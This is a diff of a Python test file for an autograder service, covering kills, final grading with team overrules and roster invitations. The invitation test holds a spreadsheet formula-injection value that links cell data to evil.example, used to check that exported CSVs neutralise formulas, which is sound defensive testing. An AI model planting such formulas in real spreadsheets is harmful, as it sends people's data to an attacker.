@@ -1,11 +1,10 @@
-"""The whole live class as its own process: verdicts, kills at any moment, and a grade that is computed once."""
+"""The whole live class as its own process: kills at any moment, and the grade for good. A hub's day has its verdicts."""
 
 from __future__ import annotations
 
 import csv
 import json
 import random
-import subprocess
 import threading
 import time
 from collections.abc import Iterator
@@ -16,9 +15,10 @@ import pytest
 
 from autograder.audit.simulate import answered
 from autograder.course.masters import solution_sources
+from autograder.files import feedback_page
 from autograder.sandbox.host.transport import _process_tree
 from autograder.sandbox.jail.namespaces import probe
-from tests.fixtures.frozen_course import BROKEN, LAB, WRONG, command
+from tests.fixtures.frozen_course import BROKEN, LAB, WRONG
 from tests.fixtures.live_class import Served
 from tests.sandbox.conftest import runs
 
@@ -41,7 +41,7 @@ def notebook(answers: dict[str, str], mark: object = "") -> bytes:
 @pytest.fixture(scope="module")
 def served(tmp_path_factory: pytest.TempPathFactory, frozen: Path) -> Iterator[Served]:
     service = Served(frozen, tmp_path_factory.mktemp("live") / "out", LAB)
-    service.tokens = service.invite("ada", "bo", *(f"s{n}" for n in range(2 * KILLS)))  # type: ignore[attr-defined]
+    service.tokens = service.invite("bo", *(f"s{n}" for n in range(2 * KILLS)))  # type: ignore[attr-defined]
     service.start()
     yield service
     service.process.kill()  # type: ignore[union-attr]
@@ -56,28 +56,6 @@ def verdict(served: Served, token: str, receipt: str, seconds: float = 120) -> d
         if card["state"] != "waiting":
             return card
     raise AssertionError(f"no verdict on {receipt}")
-
-
-def test_a_wrong_answer_is_named_and_the_mended_one_has_all_points(served):
-    token = served.tokens["ada"]
-    first = served.ask(HAND_IN, notebook(WRONG), token).json
-    card = verdict(served, token, first["receipt"])
-    questions = {question["name"]: question for question in card["questions"]}
-    assert not questions["normalise_rows"]["passed"] and questions["normalise_rows"]["cause"]
-    second = served.ask(HAND_IN, notebook({}), token).json
-    card = verdict(served, token, second["receipt"])
-    assert (card["attempt"], card["score"]) == (2, card["max_score"])
-    laid_out = served.out / "submitted" / "ada" / LAB
-    assert laid_out.joinpath(f"{LAB}.ipynb").read_bytes() == notebook({})
-
-
-def test_the_grade_that_counts_is_the_one_that_grading_the_class_gives(served, frozen, tmp_path):
-    done = command(
-        "grade", "01", "--submitted", served.out / "submitted", "--out", tmp_path, "--jobs", 1, root=frozen
-    )
-    assert done.returncode == 0, done.stdout + done.stderr
-    rows = {row["student"]: row for row in json.loads((tmp_path / "results.json").read_text())}
-    assert rows["ada"]["score"] == rows["ada"]["max_score"]
 
 
 def test_after_kills_of_service_and_workers_every_receipt_has_one_verdict_and_the_right_one(served):
@@ -113,6 +91,17 @@ def test_after_kills_of_service_and_workers_every_receipt_has_one_verdict_and_th
     served.start()
 
 
+def test_the_class_is_graded_for_good_by_what_counts_and_what_the_team_decided(served):
+    question, address = next(iter(WRONG)), f"/team/{LAB}/decide"
+    overruled = {"do": "overrule", "student": "s0", "question": question, "points": 1, "why": "Too late."}
+    for wish in (overruled, {"do": "grade"}):
+        answer = served.ask(address, json.dumps(wish).encode(), served.tokens["prof"])
+        assert answer.status == 200, answer.body
+    rows = {row["student"]: row for row in json.loads((served.out / "results.json").read_text())}
+    assert rows["s0"]["score"] == rows["s0"]["max_score"], "by the tests"
+    assert "Too late." in feedback_page(served.out, "s0", LAB).read_text(encoding="utf-8")
+
+
 def test_a_worker_that_is_busy_ends_with_the_service(served):
     endless = answered(LAB, solution_sources(LAB))
     endless.cells.insert(1, nbformat.v4.new_code_cell("while True: pass"))
@@ -128,15 +117,13 @@ def test_a_worker_that_is_busy_ends_with_the_service(served):
     assert not left
 
 
-def test_invitations_are_for_the_class_list_made_once_and_no_formulas_in_a_spreadsheet(frozen, tmp_path):
-    roster, listed = tmp_path / "roster.csv", tmp_path / "out" / "invitations.csv"
+def test_invitations_are_for_the_class_list_made_once_and_no_formulas_in_a_spreadsheet(
+    said, course_at, tmp_path
+):
+    listed, out = tmp_path / "out" / "invitations.csv", ("--out", tmp_path / "out")
     formula = '"=HYPERLINK(""http://evil.example/?""&E2,""Eve"")",+1@evil.example'
-    roster.write_text(f"student,name,email\nada,Ada Lovelace,\n-eve,{formula}\n")
-
-    def invite(*words: object) -> subprocess.CompletedProcess:
-        return command("invite", "--out", tmp_path / "out", *words, root=frozen, COURSE_ROSTER=str(roster))
-
-    assert invite("--team", "@prof").returncode == 0
+    course_at("", f"student,name,email\nada,Ada Lovelace,\n-eve,{formula}\n")
+    said("invite", *out, "--team", "@prof")
     assert listed.stat().st_mode & 0o777 == 0o600
     with listed.open(newline="") as file:
         rows = list(csv.reader(file))
@@ -145,7 +132,8 @@ def test_invitations_are_for_the_class_list_made_once_and_no_formulas_in_a_sprea
         ["'-eve", '\'=HYPERLINK("http://evil.example/?"&E2,"Eve")', "'+1@evil.example"],
         ["'@prof", "", ""],
     ]
-    assert "Everybody is invited already" in invite().stdout
-    assert "not on the class list" in invite("mallory").stderr
-    alone = command("invite", "--out", tmp_path / "alone", "--team", "prof", root=frozen, COURSE_ROSTER="")
-    assert "There is no class list" in alone.stdout and "1 invitations" in alone.stdout
+    assert "Everybody is invited already" in said("invite", *out)
+    assert "not on the class list" in said("invite", *out, "mallory", status=2)
+    course_at("")
+    alone = said("invite", "--out", tmp_path / "alone", "--team", "prof")
+    assert "There is no class list" in alone and "1 invitations" in alone
